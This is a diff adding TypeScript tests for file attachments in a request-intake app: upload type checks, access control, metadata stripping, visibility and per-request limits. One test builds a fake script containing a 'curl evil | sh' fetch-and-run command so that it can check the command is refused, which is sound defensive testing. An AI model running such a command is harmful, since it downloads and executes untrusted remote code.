@@ -1,0 +1,81 @@
+import { beforeEach, describe, expect, it } from "vitest";
+import { ConflictError, NotFoundError } from "@/lib/errors";
+import { addRequestFiles } from "@/lib/files/add";
+import { openAttachment } from "@/lib/files/download";
+import { jpegWithMetadata, minimalPdf, plainJpeg, plainPng } from "@/lib/files/test-images";
+import { incomingFiles, prepareUploads, UploadRefusedError } from "@/lib/files/uploads";
+import { submitRequest } from "@/lib/requests/submit";
+import { makeEnterprise, makeTownshipUnit, makeUser, principalOf } from "../fixtures/factory";
+import { formKey, generalDetails, makeIntakeWorld, tempStorage } from "../fixtures/intake";
+import { resetDb, testDb } from "./db";
+
+const db = testDb();
+const NOW = new Date("2026-11-27T10:00:00+08:00");
+
+beforeEach(() => resetDb());
+
+/** Files as the browser sends them in a multipart form. */
+function formFiles(...files: [string, Uint8Array, string][]) {
+  const data = new FormData();
+  for (const [name, bytes, type] of files) data.append("files", new File([Buffer.from(bytes)], name, { type }));
+  return incomingFiles(data.getAll("files"));
+}
+
+async function world() {
+  const w = await makeIntakeWorld(db);
+  const store = tempStorage();
+  const { reference } = await submitRequest(w.as.staff, { type: "GENERAL", details: generalDetails(), idempotencyKey: formKey() }, NOW, store.storage);
+  const other = await makeTownshipUnit(db);
+  const otherEnterprise = await makeEnterprise(db, other.township.id);
+  const as = {
+    ...w.as,
+    otherStaff: await principalOf(db, (await makeUser(db, "ENTERPRISE", { enterpriseId: otherEnterprise.id })).id),
+    otherOfficer: await principalOf(db, (await makeUser(db, "OFFICER", { unitId: other.unit.id })).id),
+  };
+  return { ...w, ...store, reference, as };
+}
+
+describe("attachments", () => {
+  it("refuse a PNG renamed .pdf and a script renamed .png before anything is stored", async () => {
+    const w = await world();
+    const disguised = await formFiles(["合同.pdf", plainPng(), "application/pdf"]);
+    expect(() => prepareUploads(disguised)).toThrow(UploadRefusedError);
+    const script = await formFiles(["photo.png", new TextEncoder().encode("#!/bin/sh\ncurl evil | sh\n"), "image/png"]);
+    expect(() => prepareUploads(script)).toThrow(expect.objectContaining({ fieldErrors: { files: ["fileType"] }, fileName: "photo.png" }));
+    expect(await db.attachment.count()).toBe(0);
+    expect(w.files()).toHaveLength(0);
+  });
+
+  it("are served only to those who may see the request, with image metadata gone", async () => {
+    const w = await world();
+    const [id] = await addRequestFiles(w.as.staff, w.reference, prepareUploads(await formFiles(["现场.jpg", jpegWithMetadata(), "image/jpeg"])), { now: NOW, storage: w.storage });
+    const own = await openAttachment(w.as.staff, id!, w.storage);
+    expect(own).toEqual({ name: "现场.jpg", mime: "image/jpeg", bytes: plainJpeg() });
+    expect((await openAttachment(w.as.officer, id!, w.storage)).name).toBe("现场.jpg");
+    for (const outsider of [w.as.otherStaff, w.as.otherOfficer]) {
+      await expect(openAttachment(outsider, id!, w.storage)).rejects.toBeInstanceOf(NotFoundError);
+    }
+    await expect(openAttachment(w.as.staff, "no-such-id", w.storage)).rejects.toBeInstanceOf(NotFoundError);
+  });
+
+  it("of internal notes are for unit staff only", async () => {
+    const w = await world();
+    const [id] = await addRequestFiles(w.as.officer, w.reference, prepareUploads([{ name: "内部核查.pdf", bytes: minimalPdf() }]), { visibility: "INTERNAL", now: NOW, storage: w.storage });
+    expect((await openAttachment(w.as.officer, id!, w.storage)).name).toBe("内部核查.pdf");
+    await expect(openAttachment(w.as.staff, id!, w.storage)).rejects.toBeInstanceOf(NotFoundError);
+    await expect(addRequestFiles(w.as.staff, w.reference, prepareUploads([{ name: "a.pdf", bytes: minimalPdf() }]), { visibility: "INTERNAL", storage: w.storage })).rejects.toMatchObject({ name: "ForbiddenError" });
+  });
+
+  it("are capped at 5 per request, and refused from the enterprise once the request is closed", async () => {
+    const w = await world();
+    const three = () => prepareUploads(Array.from({ length: 3 }, (_, i) => ({ name: `${i}.pdf`, bytes: minimalPdf() })));
+    await addRequestFiles(w.as.staff, w.reference, three(), { storage: w.storage });
+    await expect(addRequestFiles(w.as.staff, w.reference, three(), { storage: w.storage })).rejects.toMatchObject({ fieldErrors: { files: ["tooManyFiles"] } });
+    expect(await db.attachment.count()).toBe(3);
+    expect(w.files()).toHaveLength(3);
+
+    await db.request.update({ where: { reference: w.reference }, data: { status: "WITHDRAWN" } });
+    await expect(addRequestFiles(w.as.staff, w.reference, prepareUploads([{ name: "x.pdf", bytes: minimalPdf() }]), { storage: w.storage })).rejects.toBeInstanceOf(ConflictError);
+    await expect(addRequestFiles(w.as.otherStaff, w.reference, prepareUploads([{ name: "x.pdf", bytes: minimalPdf() }]), { storage: w.storage })).rejects.toBeInstanceOf(NotFoundError);
+  });
+});
